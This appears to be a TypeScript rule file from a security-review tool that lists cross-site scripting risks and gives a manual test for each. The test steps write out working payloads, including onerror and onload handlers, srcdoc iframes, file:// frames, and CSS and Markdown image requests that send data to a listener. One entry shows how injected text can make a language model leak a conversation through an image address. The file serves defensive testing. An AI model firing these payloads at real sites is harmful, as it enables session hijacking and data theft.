// Long because a class's situations are read, ordered and tried together.
import type { Situation, Situations } from "../situation.ts";

/** What people type and others read. */
const TEXT =
  "[text:name|title|description|comment|bio|note|caption|message|label|body|subject|nickname|signature|review|headline|banner|announcement|post|article|answer|reply|question|instruction|profile|tooltip|teaser|recipe|readme|slide|card|listing|notification|bulletin|motto|transcript|intro|testimonial]";
/** What is handed in and looked at. */
const FILE =
  "[file:logo|icon|avatar|emoji|attachment|image|picture|asset|signature|diagram|drawing|upload|badge|cover|media|prototype|build|game|export|theme|sticker|portfolio|submission|document]";
/** Further places of text, for sentences that name no plainer one. */
const WIDER =
  "[text:story|excerpt|checklist|step|reason|greeting|footer|header|popup|ribbon|macro|feedback|result|reference|chat|term|cell|legend|tag|hashtag|mention|contact|ad|update|template|block|report|event|mail|email|form|widget|diagram|place|field|text|page]";
const WRITER = "[who:<staff|admin|customer|partner>]";

/** What comes back from an address. */
const shownAs = (patterns: readonly string[]): string[] => [
  ...patterns.map(
    (pattern) =>
      `${pattern} & [back:term|headline|title|greeting|message|name|parameter|colour|text|search|error|label]`,
  ),
  ...patterns,
];

/** Each pattern with the text that its sentence names. */
const inText = (patterns: readonly string[]): string[] => [
  ...patterns.map((pattern) => `${pattern} & ${TEXT}`),
  ...patterns,
];

const READERS = "Staging, an account that may write it, and a second browser of a reader with its console open.";

const CLEANED: Situation["control"] = {
  when: [
    "sanitized|sanitised|sanitizer|sanitiser|sanitize|sanitise|dompurify|bleach|purify",
    "escaped|escapes|escapehtml|encoded|plain_text",
    "sandbox|sandboxed",
  ],
  consequence:
    "Check that it holds for attributes and addresses as well as for tags, for each place that displays the text, and that nothing alters it afterwards.",
};

/** Each pattern, first with what else its sentence names. */
const beside = (more: string, patterns: readonly string[]): string[] => [
  ...patterns.map((pattern) => `${pattern} & ${more}`),
  ...patterns.map((pattern) => `${pattern} & ${WIDER}`),
  ...patterns,
];

/** A text goes into the page by a means that does not escape it. */
function inserts(
  sink: string,
  shown: string,
  example: string,
  counterexample: string,
  more: readonly string[] = [],
): Situation {
  const id = `inserts-by-${sink.split("|")[0]?.replaceAll(" ", "-")}`;
  return {
    id,
    when: [`${TEXT} & ${sink}`, sink, ...more],
    unless: [`replaces|instead|removed|drop|drops|away|without .. ${sink}`, `${sink} .. replaced|removed`],
    cwe: 79,
    severity: "high",
    rationale: `${shown} does not escape, so a stored script acts with the session of each reader`,
    name: [
      `A script in the {text} can run because ${shown} inserts it`,
      `A script in text that ${shown} inserts can run for its readers`,
    ],
    consequence: [
      `With ${shown}, the browser parses it as HTML. If a person or an outside system writes the {text}, a tag with an event handler in it runs in the session of whoever looks at it, unless it is cleaned before.`,
      `With ${shown}, the browser parses it as HTML. Where a person or an outside system writes part of that text, a tag with an event handler in it runs for whoever looks at it, unless it is cleaned before.`,
    ],
    control: {
      when: ["sanitized|sanitised|sanitizer|sanitiser|sanitize|dompurify|bleach|purify", "escaped|escapehtml"],
      consequence: `Check that it covers every part that ${shown} receives, attributes included, and that nothing changes the text between cleaning and inserting.`,
    },
    test: {
      technique: "inject-input",
      title: [`Put event handlers into the {text} behind ${shown}`, `Put event handlers into the text behind ${shown}`],
      setUp:
        "A staging copy, a way to write the inserted text as its usual author does, and a browser that displays it.",
      steps: [
        [
          "As the usual author, set the {text} to <img src=x onerror=alert(document.domain)>.",
          "As the usual author, set the inserted text to <img src=x onerror=alert(document.domain)>.",
        ],
        'Set it to "><svg onload=alert(1)> and then to <iframe srcdoc="<script>alert(1)</script>">.',
        "After each, open what displays it in a fresh browser window.",
      ],
      failsIf: "an alert opens",
    },
    example,
    counterexample,
  };
}

export const xss: Situations = [
  {
    id: "prints-callback-name",
    when: ["jsonp"],
    unless: ["remove|removes|removed|drop|drops .. jsonp"],
    cwe: 79,
    severity: "medium",
    rationale: "the answer with its reader's data can be loaded by any page, and one prepared address is enough",
    name: ["The JSONP callback of {endpoint} can be a script", "The JSONP callback name can be a script"],
    consequence:
      "The callback's name is printed at the start of a script. Unless it is held to letters, digits, dots and underscores, an address can carry a whole program, and any page can read the answer with the reader's cookies.",
    test: {
      technique: "inject-input",
      title: ["Send scripts as JSONP callback to {endpoint}", "Send scripts as JSONP callback"],
      setUp: "A browser and a page on another origin that loads the JSONP address in a script tag.",
      steps: [
        "Request the address with callback=alert(1)// and look at the body and its Content-Type.",
        "Request it with callback=<script>alert(1)</script> and open it in a tab.",
        "Load it from the page on the other origin and note which values the callback is given.",
      ],
      failsIf: "an alert opens in the tab, or the other page reads values that are not public",
    },
    example: "Time table widget\n\nThe script takes a callback parameter, JSONP, so that any site can use it.",
    counterexample: "Time table widget\n\nThe widget is a picture that is drawn anew each night.",
  },
  {
    id: "renders-html-for-pdf",
    when: [
      "[engine:puppeteer|chromium|chrome|wkhtmltopdf|weasyprint|dompdf|playwright] .... pdf|print|invoice|voucher",
      "pdf .... [engine:puppeteer|chromium|chrome|wkhtmltopdf|weasyprint|dompdf|playwright]",
    ],
    unless: ["chrome .. extension", "playwright .. test|tests", "open|opens ... pdf .. in chrome"],
    cwe: 79,
    severity: "high",
    rationale: "the renderer stands on the server and reads what the server reaches",
    name: "Markup in the printed text can make {engine} fetch files and internal addresses",
    consequence:
      "What is printed is a page that {engine} loads on the server. If a text on it was typed by a user and its tags are kept, a frame in it fetches internal addresses and files, whose content is then in the PDF.",
    control: {
      when: [
        "escaped|sanitized|sanitised|sanitize|dompurify",
        "javascript .. off|disabled",
        "no network|remote",
        "file access",
      ],
      consequence: "Check that it holds for frames, style sheets and pictures too, and not only for script tags.",
    },
    test: {
      technique: "inject-input",
      title: "Place frames in the text that {engine} prints",
      setUp: "An account that may write a printed text, a listener that logs requests, and {engine} on staging.",
      steps: [
        "As that account, place <iframe src=http://the-listener/frame></iframe> and <iframe src=file:///etc/hostname></iframe> in the printed text.",
        'Place <link rel=stylesheet href=http://the-listener/css> and <img src=x onerror="document.body.append(location.href)">.',
        "Have the PDF made and read it.",
      ],
      failsIf: "the listener logs a frame request from the server, or the PDF shows the host's name",
    },
    example: "Quote layout\n\nBrokers write header and footer, and headless Chromium makes the PDF from them.",
    counterexample: "Quote layout\n\nThe quote has a second column with the delivery date.",
  },
  {
    id: "shows-mail-markup",
    when: [
      "html [mail:mail|email|message|newsletter] .. show|shown|shows|rendered|render|displayed|open|opens|keep|keeps|look|inline",
      "show|shows|display|displays|render|renders .. html [mail:mail|email|message|newsletter]",
      "html .. body|part .. show|shown|rendered|displayed && [mail:mail|email|inbox|mailbox]",
    ],
    unless: [
      "send|sends|outgoing|our .. html .. mail|mails|email|emails",
      "we send",
      "mail template|templates",
      "error|validation message|messages",
    ],
    cwe: 79,
    severity: "high",
    rationale: "a message from outside then acts with the session of its reader",
    name: "A script in received HTML {mail} can act in the reader's session",
    consequence:
      "Anyone who knows the address can write such HTML. If it is displayed within the application's own origin, an event handler that the cleaning misses reads and sends under the reader's session.",
    control: {
      when: ["sandbox|sandboxed", "sanitized|sanitised|sanitizer|sanitiser|sanitize|dompurify"],
      consequence: "Check that it holds for style, forms and SVG, and for a reply that quotes the received HTML.",
    },
    test: {
      technique: "inject-input",
      title: "Send HTML {mail} with handlers and open it",
      setUp: "A sender outside, a test mailbox read in the application, and a browser with its console open.",
      steps: [
        "From outside, send HTML with <img src=x onerror=alert(document.domain)> and <svg><animate onbegin=alert(1) attributeName=x>.",
        "Send HTML with <form action=https://example.org><input name=password></form> and a style position:fixed;inset:0.",
        "As the reader, open both, then reply to the first with its text quoted.",
      ],
      failsIf: "an alert opens, or the sent form covers parts of the application",
    },
    example: "Inbox\n\nHTML mails are shown with their own layout and pictures.",
    counterexample: "Inbox\n\nThe list of mails is sorted by the date of the last answer.",
  },
  {
    id: "shows-model-answer",
    when: [
      "[answer:answer|reply|summary|draft|response|result] ... html|markdown|raw && model|llm|chatbot|gpt|assistant",
      "model|llm|chatbot|gpt ... [answer:answer|reply|summary|draft|response] ... html|markdown",
      "model ... html ... [answer:comes] back",
    ],
    unless: ["data model", "exports|export .. markdown"],
    cwe: 79,
    severity: "medium",
    rationale: "it takes a text that leads the model to repeat the markup",
    name: [
      "Markup that the model repeats in its {answer} can run in the reader's browser",
      "Markup in what the model returns can run in the reader's browser",
    ],
    consequence:
      "The model repeats what it was given. If one person's text is in the prompt for another person's answer, its tags reach that reader: as HTML they run, and a remote picture's address can carry text of the conversation away.",
    control: {
      when: ["sanitized|sanitised|sanitizer|sanitiser|sanitize|dompurify|escaped", "csp|content security policy"],
      consequence:
        "Check that it also holds while the text streams in, for pictures from other hosts and for javascript: links.",
    },
    test: {
      technique: "inject-input",
      title: "Have the model repeat markup",
      setUp: "A staging copy with the model connected, and a browser with its network log open.",
      steps: [
        "Ask the model to repeat <img src=x onerror=alert(document.domain)> outside of a code block.",
        "Put the same text, and ![a](https://example.org/?q=test), into each text that is part of the prompt, and start the request again.",
        "Have it return [x](javascript:alert(1)) and click the link.",
      ],
      failsIf: "an alert opens, or the network log has a request to example.org",
    },
    example: "Answers as rich text\n\nThe model's answer is rendered as Markdown with raw tags.",
    counterexample: "Answers in the log\n\nThe length of each answer is counted once a day.",
  },
  {
    id: "weakens-sanitiser",
    when: [
      "[filter:sanitizer|sanitiser|sanitize|sanitising|sanitizing|sanitization|escaping|dompurify|bleach|purifier|htmlpurifier|cleaner] .. off|removed|out|dropped|disabled|skipped|ate|cut|breaks|broke|anymore",
      "turn|turned|turns|switch|switched|drop|drops|dropped|remove|removes|removed|without|disable|disabled|skip|skips|take|bypass .. [filter:sanitizer|sanitiser|sanitize|sanitizing|sanitization|escaping|dompurify|bleach|purifier|htmlpurifier|cleaner]",
      "no longer .. [filter:sanitized|sanitised|escaped|bleach|dompurify|sanitizer|sanitiser]",
      `${TEXT} .. no longer .. [filter:sanitized|sanitised|escaped|bleach|dompurify|sanitizer|sanitiser]`,
      "old [filter:cleaner|sanitizer|sanitiser|filter] removed too much",
      `switched|switch|turned|turn the? [filter:sanitizer|sanitiser|escaping|dompurify|bleach] off for ${TEXT}`,
      `${TEXT} .. [raw:unescaped]`,
      "shown|printed|inserted|echoed|output|rendered [raw:unescaped]",
      "shown|printed|inserted|echoed|output|rendered without [raw:escaping]",
      `${TEXT} ... without [raw:escaping]`,
    ],
    unless: [
      "without .. escaping .. was|before",
      "shell|sql|regex|csv .. escaping",
      "add|adds|added .. missing .. escaping|sanitizer",
      "fix|fixes|fixed|prevent|prevents|issue .... xss|unescaped|escaping|sanitizer|sanitization",
      "escape code|codes|key|sequence|character|characters",
      "log|logs|logger|logging .. sanitizer|sanitize|sanitization",
      "addresssanitizer|asan",
    ],
    cwe: 79,
    severity: "high",
    rationale: "what was cleaned until now reaches the browser of each reader as it was typed",
    name: [
      "A script in the {text} can run for each reader without its cleaning ({filter})",
      "With the {filter} out of the way, typed markup can run a script for each reader",
      "A script in the {text} can run for each reader as it is shown without escaping",
      "Markup shown without escaping can run a script for each reader",
    ],
    consequence: [
      "Tags in the {text} then reach the page as they were typed: whoever writes it can store an event handler that acts in the session of each reader.",
      "Tags then reach the page as they were typed: whoever writes the text can store an event handler that acts in the session of each reader.",
    ],
    control: {
      when: ["allowlist|whitelist|allow list", "sandboxed|csp|content security policy"],
      consequence:
        "Check that it also refuses event handlers, javascript: links, SVG and srcdoc, and that it works on the final HTML.",
    },
    test: {
      technique: "inject-input",
      title: ["Store handlers in the {text}", "Store handlers that were cleaned before"],
      setUp: "A way to write the text as its usual author does, and a second browser that displays it.",
      steps: [
        [
          "As its author, set the {text} to <img src=x onerror=alert(document.domain)>, then to <svg onload=alert(1)>.",
          "As its author, set the text to <img src=x onerror=alert(document.domain)>, then to <svg onload=alert(1)>.",
        ],
        'Set it to <a href="javascript:alert(1)">b</a>, then to <iframe srcdoc="<script>alert(1)</script>">.',
        "In the second browser, open what displays it after each and click the link.",
      ],
      failsIf: "an alert opens",
    },
    example: "README of images\n\nThe sanitiser strips ids, which breaks anchors, so turn the sanitiser off.",
    counterexample: "README of images\n\nThe first ten lines are displayed as plain text beside the name.",
  },
  inserts(
    "dangerouslysetinnerhtml",
    "dangerouslySetInnerHTML",
    "Log search\n\nThe match in the message is wrapped in <b> with dangerouslySetInnerHTML.",
    "Log search\n\nThe match is bold; the line is a text node with a mark around it.",
  ),
  inserts(
    "innerhtml",
    "innerHTML",
    "Big screen\n\nThe team's name is set by innerHTML, some have a flag in it.",
    "Big screen\n\nThe team's name is cut after twenty letters.",
  ),
  inserts(
    "insertadjacenthtml",
    "insertAdjacentHTML",
    "Bid list\n\nEach new bid is put on top with insertAdjacentHTML, the label of the bidder in front.",
    "Bid list\n\nEach new bid is put on top with its time.",
  ),
  inserts(
    "outerhtml",
    "outerHTML",
    "Placeholders\n\nThe caption of the card is written to outerHTML of the grey box.",
    "Placeholders\n\nThe grey box is as high as the card that follows.",
  ),
  inserts(
    "sethtml",
    "setHTML",
    "Route map\n\npopup.setHTML gets the note of the stop.",
    "Route map\n\nThe stop has a number in its circle.",
  ),
  inserts(
    "v html",
    "v-html",
    "Card titles\n\nThe title of a card is set with v-html, so that bold works.",
    "Card titles\n\nThe title of a card is cut after sixty characters.",
  ),
  inserts(
    "mark safe",
    "mark_safe",
    "Badges\n\nThe label of a badge goes through mark_safe so that arrows show.",
    "Badges\n\nThe label of a badge is at most ten letters long.",
  ),
  inserts(
    "html safe",
    "html_safe",
    "Hints\n\nThe caption below a field is html_safe now.",
    "Hints\n\nThe caption below a field has a smaller font.",
  ),
  inserts(
    "bypasssecuritytrusthtml",
    "bypassSecurityTrustHtml",
    "News\n\nThe teaser is passed through bypassSecurityTrustHtml.",
    "News\n\nThe teaser has three lines at most.",
  ),
  inserts(
    "bindpopup",
    "bindPopup",
    "Map\n\nmarker.bindPopup gets the name from the imported file.",
    "Map\n\nMarkers are grouped when zoomed out far.",
  ),
  inserts(
    "triple|three braces|mustache|stash",
    "a triple-brace placeholder",
    "Vouchers\n\nThe intro is put in the template with triple braces so that bold works.",
    "Vouchers\n\nThe intro stands above the list of hotels.",
  ),
  {
    id: "runs-handed-in-page",
    when: [
      "html .. file|files|attachment|attachments|page|pages|prototype|prototypes|export .... same domain|origin|host",
      `${FILE} .... same domain|origin|host`,
      `served|runs|run|opened|shown .. on|from|under .. same|own|site's domain|origin|host & ${FILE}`,
      `${FILE} .... under .. own domain|host|address`,
    ],
    unless: ["same origin policy", "same domain .. was|before", "email|mail .. domain"],
    cwe: 79,
    severity: "high",
    rationale: "the file's script acts with the session of each person who opens it",
    name: [
      "A script inside handed-in {file} can act under the site's own domain",
      "A script in a handed-in HTML page can act under the site's own domain",
    ],
    consequence:
      "On that domain, a script in the opened HTML or SVG reads pages and sends requests with the session of whoever opened it. Its author needs no more than the right to hand it in.",
    control: {
      when: ["separate|second|cookieless domain|subdomain|host", "sandbox|sandboxed", "nosniff"],
      consequence:
        "Check that it holds for the file's own address as well as for the page that shows it, and that the other host receives no session cookie.",
    },
    test: {
      technique: "craft-file",
      title: ["Hand in {file} files with scripts and open them", "Hand in pages with scripts and open them"],
      setUp: "An author who may hand them in, a signed-in second account that opens them, and a browser console.",
      steps: [
        "As the author, hand in x.html with <script>alert(document.domain)</script>, and the same script in x.svg.",
        "As the second account, open each where it is shown.",
        "As the second account, open each by its own address in a new tab.",
      ],
      failsIf: "the alert shows the domain on which the second account is signed in",
    },
    example: "Cards\n\nHTML prototypes are shown in the card, in a frame on the same domain.",
    counterexample: "Cards\n\nPrototypes are listed below the card with their size.",
  },
  {
    id: "draws-foreign-svg",
    when: [
      `allow|allows|allowed|accept|accepts|accepted|upload|uploads|uploaded|inline|custom|own|stored|permit ... svg & ${FILE}`,
      `svg ... allow|allowed|accepted|upload|uploads|uploaded|inline|too|stored|please|served & ${FILE}`,
      "upload|uploads|uploaded|inline|allow|allows .. svg|svgs",
      "svg|svgs .. allowed|uploaded|uploads|inline",
    ],
    unless: [
      "svg .. converted|rasterized|rasterised|rasterizes",
      "our own svg",
      "fix|fixes|fixed|prevent .. xss|vulnerability",
      "svg sprite",
      "inline svg .. icon|icons .. instead",
      "html files ... same domain",
    ],
    cwe: 79,
    severity: "high",
    rationale: "the script in the SVG acts with the session of each viewer who opens it",
    name: [
      "A script inside an SVG {file} can act in the session of its viewers",
      "A script inside an uploaded SVG can act in the session of its viewers",
    ],
    consequence:
      "An SVG may hold scripts and event handlers. Drawn inline, and when its own address is opened on the site's domain, they run with the viewer's session; in an img tag they do not.",
    control: {
      when: [
        "sanitize|sanitized|sanitised|sanitizer|sanitiser|dompurify",
        "separate|cookieless domain|host",
        "content disposition|csp",
      ],
      consequence:
        "Check that it holds for the file's own address, for foreignObject and for links with javascript: inside the SVG.",
    },
    test: {
      technique: "craft-file",
      title: ["Hand in SVG {file} files that hold scripts", "Hand in SVG files that hold scripts"],
      setUp:
        "An account that may hand in the SVG, a second account that views it, and a browser with its console open.",
      steps: [
        "As the first account, hand in <svg xmlns='http://www.w3.org/2000/svg' onload='alert(document.domain)'/>.",
        "Hand in one with <a href='javascript:alert(1)'><text y='20'>x</text></a> and one with a foreignObject that holds <iframe srcdoc='<script>alert(1)</script>'>.",
        "As the second account, view each where it is displayed, click it, then open the file's own address in a new tab.",
      ],
      failsIf: "an alert opens that shows the site's domain",
    },
    example: "Company logo\n\nVendors upload their logo; SVG is allowed too and shown inline.",
    counterexample: "Company logo\n\nThe logo of the shop moves to the left on small screens.",
  },
  {
    id: "opens-active-file",
    when: [
      `${FILE} .. open|opens|opened|shown|previewed|displayed .. browser|inline|tab`,
      `html files .. open|opened|shown .. tab|inline|browser & ${FILE}`,
      `${FILE} && content type .. from|as .. browser|client|upload|sent`,
      "html [file:file|attachment|prototype|export] .. open|opens|shown|used|inline|allowed",
      "svg and html [file:file]",
      "content disposition .. inline && [file:upload|attachment|file]",
    ],
    unless: [
      "document|link|page .. opens|open in .. new tab",
      "static site",
      "html file .. generated|report",
      "allow .. attachment .. download only",
    ],
    cwe: 79,
    severity: "high",
    rationale: "the file's script acts with the session of each person who opens it",
    name: "A script in HTML handed in as {file} can act when it is opened",
    consequence:
      "A browser runs the scripts of an HTML or SVG file that it opens instead of saving. If what is handed in as {file} comes from the site's own domain, its author acts with the session of whoever opened it.",
    control: {
      when: ["separate|second|cookieless domain|subdomain|host", "sandbox|sandboxed", "nosniff"],
      consequence:
        "Check that it holds for the file's own address as well as for the preview, and that the other host receives no session cookie.",
    },
    test: {
      technique: "craft-file",
      title: "Hand in HTML as {file} and open it",
      setUp: "An account that may hand in files, a second account that opens them, and a browser console.",
      steps: [
        "As the first account, hand in a.html with <script>alert(document.domain)</script>, and the same script in a.svg.",
        "Hand in the HTML once more as photo.png with the Content-Type text/html.",
        "As the second account, open each where it is listed and by its own address.",
      ],
      failsIf: "the alert shows the domain on which the second account is signed in",
    },
    example: "Attachments\n\nAttachments open in the browser now instead of being saved.",
    counterexample: "Attachments\n\nThe list of attachments has a column with the size.",
  },
  {
    id: "pastes-embed-code",
    when: [
      `${WRITER} .. paste|pastes|enter|add .. embed code|codes|snippet|snippets`,
      "paste|pastes|pasted|enter .. embed code|codes",
    ],
    cwe: 79,
    severity: "high",
    rationale: "an embed code is HTML, and its script acts with the session of each reader",
    name: [
      "An embed code pasted by {who} can hold a script for each reader",
      "A pasted embed code can hold a script for each reader",
    ],
    consequence:
      "An embed code is HTML of any kind. Unless the server keeps only a frame to a known host, whoever pastes it can put a script beside the frame, which acts in the session of each reader.",
    control: {
      when: ["allowlist|whitelist|only .. youtube|vimeo|hosts|providers|domains", "sandbox|sandboxed"],
      consequence:
        "Check that it compares the parsed host of the frame, and that anything beside the frame is dropped on the server.",
    },
    test: {
      technique: "inject-input",
      title: "Paste embed codes that hold more than a frame",
      setUp:
        "An account that may paste an embed code, a reader's browser with its console open, and a page of the tester's.",
      steps: [
        'As the author, paste <iframe src="https://www.youtube.com/embed/x" onload="alert(document.domain)"></iframe>.',
        "Paste a valid code followed by <script>alert(1)</script>, then one with src=https://www.youtube.com.example.org/.",
        'Paste <iframe srcdoc="<script>alert(document.domain)</script>"></iframe>, and open the page as the reader after each.',
      ],
      failsIf: "an alert opens, or the frame of example.org is loaded",
    },
    example: "Virtual tours\n\nAgents paste the embed code of their provider.",
    counterexample: "Virtual tours\n\nThe tour is shown above the list of rooms.",
  },
  {
    id: "frames-pasted-address",
    when: [
      `${WRITER} .. paste|pastes|enter|enters|add|adds .. link|links|url|urls|address .... iframe|embed|embedded`,
      "paste|pasted|enter|any .. link|links|url|urls|address|page .... [who:iframe|iframes]",
      "iframe|iframes ... any src|url|page|address|link|site",
    ],
    unless: ["x frame options", "frame ancestors", "embed .. our"],
    cwe: 79,
    severity: "medium",
    rationale: "a framed page needs a javascript: address, or its reader's trust, to do harm",
    name: "An address chosen for the frame can run a script in the site itself",
    consequence:
      "The author of the address picks what readers see inside the page. A javascript: address runs in the site itself, and a foreign page without a sandbox can move the whole window elsewhere.",
    control: {
      when: ["sandbox|sandboxed", "allowlist|whitelist|only .. youtube|vimeo|hosts|providers|domains"],
      consequence:
        "Check that it compares the parsed host rather than the beginning of the text, and refuses javascript: and data: addresses.",
    },
    test: {
      technique: "inject-input",
      title: "Give the frame script addresses and a page that leaves it",
      setUp:
        "A way to set the framed address as its usual author does, a reader's browser, and a page that sets top.location.",
      steps: [
        "As the author, set the framed address to javascript:alert(document.domain).",
        "Set it to the page that sets top.location, and to https://www.youtube.com.example.org/.",
        "After each, open the page that holds the frame as the reader.",
      ],
      failsIf: "an alert with the site's domain opens, or the window moves away without a click",
    },
    example: "Class wall\n\nStudents paste a link and we embed the page in an iframe.",
    counterexample: "Class wall\n\nStudents drag the cards of the wall into another order.",
  },
  {
    id: "mails-typed-markup",
    when: [
      `${WRITER} ... own|custom html .... [mail:mail|mails|email|emails|newsletter]`,
      "[mail:mail|mails|email|emails|newsletter] .... own|custom html",
      `html .. in|into|of .. [mail:mail|mails|email|emails] & ${WRITER}`,
    ],
    unless: ["plain text mail|mails|email|emails", "received|incoming|inbox"],
    cwe: 79,
    severity: "medium",
    rationale: "mail programs run no scripts, but a link under the house's name is believed",
    name: [
      "HTML written by {who} can put foreign links and forms into the {mail}",
      "Typed HTML can put foreign links and forms into the {mail}",
    ],
    consequence:
      "Its author can place links, a form and tracking pictures in {mail} that recipients get from the house's own address, and trust because of it.",
    test: {
      technique: "inject-input",
      title: "Send {mail} whose HTML holds a form and a foreign link",
      setUp: "An account that may write the HTML and a test mailbox that receives it.",
      steps: [
        'As that account, write <a href="https://example.org">https://www.the-house.example</a> and <form action=https://example.org><input name=password></form>.',
        "Write <style>body>*{display:none}</style><p>Your account is blocked</p>.",
        "Have both sent and open them and their source in the test mailbox.",
      ],
      failsIf: "the received source still has the form, or the style hides what the house itself wrote",
    },
    example: "Dunning mails\n\nClients write the text with their own HTML for the mail to the debtor.",
    counterexample: "Dunning mails\n\nThe mail leaves on the tenth instead of the fifth.",
  },
  {
    id: "adds-own-script",
    when: [
      `${WRITER} .. add|paste|pastes|place|edit|write|enter|set|use|put .. own|custom|any|their|the? [what:html|javascript|js|script|scripts]`,
      `${WRITER} ... custom|own|additional .. [what:html|javascript|js|script|scripts|snippet]`,
      "custom|own|additional .. [what:footer|header|head|banner|widget|page|theme] html|script|scripts|javascript|js|snippet",
      "custom .. header and [what:footer] html",
      "custom [what:html|javascript|js]",
      "paste|pastes .. [what:html|javascript|script|snippet]",
      "html [what:block|blocks|widget|widgets] .. in|for|on",
    ],
    unless: [
      "custom elements|events|element|event",
      "update|bump|upgrade .. javascript|js",
      "custom html .. element|tag|attribute",
      "npm|build|shell|python|lua|sql script|scripts",
    ],
    cwe: 79,
    severity: "high",
    rationale: "the author's script acts with the session of each reader of the page",
    name: [
      "Script in the {what} that {who} may add can act in each reader's session",
      "Script in the custom {what} can act in each reader's session",
    ],
    consequence: [
      "What {who} may put there runs for everyone who opens the page. Where that page shares its domain with signed-in parts, the script does what its reader may do there, also for a reader with more rights than its author.",
      "What is put there runs for everyone who opens the page. Where that page shares its domain with signed-in parts, the script does what its reader may do there, also for a reader with more rights than its author.",
    ],
    control: {
      when: ["sandbox|sandboxed", "sanitized|sanitised|sanitize|dompurify", "separate|other domain|host"],
      consequence:
        "Check that it also holds in the preview and in the editor, where readers with more rights look at it.",
    },
    test: {
      technique: "inject-input",
      title: "Add a script to the {what} and open it with more rights",
      setUp: "An author with the least rights that may add it, an account with more rights, and a browser console.",
      steps: [
        "As the author, add <script>alert(document.domain)</script> and <img src=x onerror=alert(document.cookie)>.",
        "As the account with more rights, open the published page.",
        "As the same account, open its preview and the place where it is edited.",
      ],
      failsIf: "an alert shows the domain on which the account with more rights is signed in",
    },
    example: "Status pages\n\nOwners add custom HTML below the list of incidents.",
    counterexample: "Status pages\n\nOwners choose between a light and a dark look.",
  },
  {
    id: "adds-own-css",
    when: [`${WRITER} .... own|custom css`, "custom css"],
    unless: ["custom css .. properties|property|class|variables"],
    cwe: 79,
    severity: "medium",
    rationale: "a style sheet alone redraws the page and loads pictures; a script needs a gap in how it is printed",
    name: [
      "Custom CSS by {who} can end its style tag and bring a script",
      "Custom CSS can end its style tag and bring a script",
    ],
    consequence:
      "Printed inside a style tag, the text </style> ends it and a script may follow. Even CSS alone lays a false button over a real one and reports typed attributes through picture addresses.",
    test: {
      technique: "inject-input",
      title: "Enter CSS that ends its tag and CSS that loads pictures",
      setUp: "An account that may set the custom CSS, a reader's browser, and a listener that logs requests.",
      steps: [
        "As the author, set the CSS to </style><script>alert(document.domain)</script>.",
        "Set it to input[value^=a]{background:url(http://the-listener/a)} and to @import url(http://the-listener/i.css);.",
        "As the reader, open the styled page after each.",
      ],
      failsIf: "an alert opens, or the listener is called from a page with the reader's own form values",
    },
    example: "Shop page\n\nSellers style their page with custom CSS.",
    counterexample: "Shop page\n\nSellers choose one of eight colours for the page.",
  },
  {
    id: "loads-foreign-markup",
    when: [
      "[source:feed|rss|oembed|opengraph|webmention|podcast|tokenuri|ics|geojson|invitation] ... html|markup|markdown",
      "html|markup|markdown ... from .. [source:feed|rss|oembed|opengraph|podcast|wiki|invitation|publisher]",
      "[source:feed|rss|oembed|podcast|webmention] .. title|description|content|author .. shown|displayed|printed|rendered",
      "html that page|site .. [source:offers]",
    ],
    unless: ["import .. csv", "feed .. reader .. link"],
    cwe: 79,
    severity: "high",
    rationale: "an outside author then acts with the session of each reader",
    name: "Markup in the foreign {source} can run a script for each reader",
    consequence:
      "That text is written outside the application, and the next one can differ from today's. If its tags are kept, an event handler in them runs for everyone who opens what displays it.",
    control: {
      when: [
        "sanitized|sanitised|sanitizer|sanitiser|sanitize|dompurify|bleach|strip|strips|stripped",
        "sandbox|sandboxed",
      ],
      consequence: "Check that it is done at each fetch, for titles and link targets too, and not only for the body.",
    },
    test: {
      technique: "inject-input",
      title: "Serve a {source} that holds scripts",
      setUp: "A test host that serves the {source}, and a browser that opens what displays it.",
      steps: [
        "In the served {source}, put <img src=x onerror=alert(document.domain)> into the title and into the body.",
        "Put a link javascript:alert(1), and the author's name x\"><svg onload=alert(1)>.",
        "Have it fetched, open what displays it and click the link.",
      ],
      failsIf: "an alert opens",
    },
    example: "Show notes\n\nThe feed of the podcast brings HTML, which we display with its formatting.",
    counterexample: "Show notes\n\nThe page of an episode has larger letters on phones.",
  },
  {
    id: "shows-text-of-the-address",
    when: [
      "show|shows|shown|display|displays|displayed|print|prints|printed|render|renders|rendered .. value of .. [param:msg|message|title|error|text|name|q]",
      "[param:msg|message|title|error|heading|text|reason|term|name] .. from the? address|url|query|hash|fragment|link",
      "[param:search] page|results|result .. repeats|repeat|shows .. what .. typed",
      "h1 .. results for ... [param:query|get|q|term]",
      "innerhtml ... location [param:hash|search|href]",
      "echo get [param:msg|q|name|id|term|title|error|search]",
      "[param:msg|message|title|error|q|term] ... reflected",
    ],
    unless: ["address .. bar", "email address"],
    cwe: 79,
    severity: "high",
    rationale: "a link is enough to run a script in the session of whoever follows it",
    name: [
      "A link with a script in ?{parameter}= can act for whoever follows it",
      "A link with a script in its “{param}” can act for whoever follows it",
    ],
    consequence:
      "Whoever writes the link writes that text. If it reaches the page as HTML, the link runs a script for each reader who follows it, with that reader's session on the site.",
    control: {
      when: ["escape|escaped|escapes|encoded|sanitize|sanitized|textcontent"],
      consequence: "Check that it holds in attributes, in the page title and in a script block too.",
    },
    test: {
      technique: "inject-input",
      title: ["Send markup in ?{parameter}=", "Send markup as “{param}” in the address"],
      setUp: "A browser with its console open, signed in on staging if the site has a sign-in.",
      steps: [
        [
          'Open the page with {parameter}="><img src=x onerror=alert(document.domain)>.',
          'Open the page with "><img src=x onerror=alert(document.domain)> in the place of “{param}” in its address.',
        ],
        "Open it with the same text URL-encoded twice, and with ';alert(1);//.",
        "Open it with </title><script>alert(1)</script> in the same place.",
      ],
      failsIf: "an alert opens",
    },
    example: "Maintenance page\n\nThe box shows the value of ?msg= with bold and links.",
    counterexample: "Maintenance page\n\nThe box shows one fixed sentence in four languages.",
  },
  {
    id: "draws-diagram-text",
    when: [
      "[lib:mermaid|katex|plantuml|mathjax|graphviz|vega] ... drawn|draw|render|rendered|renders|typeset|block|blocks|shown|formula|diagram|diagrams",
      "draw|drawn|render|rendered|renders|typeset|formulas|diagrams .. by|with|using|through|as [lib:mermaid|katex|plantuml|mathjax|graphviz|vega]",
    ],
    unless: ["bump|upgrade|update .. mermaid|katex|mathjax", "docs .. diagram"],
    cwe: 79,
    severity: "medium",
    rationale: "it needs an option of the drawing library that lets markup through",
    name: "A label in a {lib} text can run a script for its readers",
    consequence:
      "{lib} turns the author's text into SVG and HTML of the page. Labels, links and click handlers in it run for each reader unless the library works in its strict mode.",
    test: {
      technique: "inject-input",
      title: "Write {lib} texts whose labels and links hold scripts",
      setUp: "A way to write such a text as its usual author does, and a second browser that opens the page.",
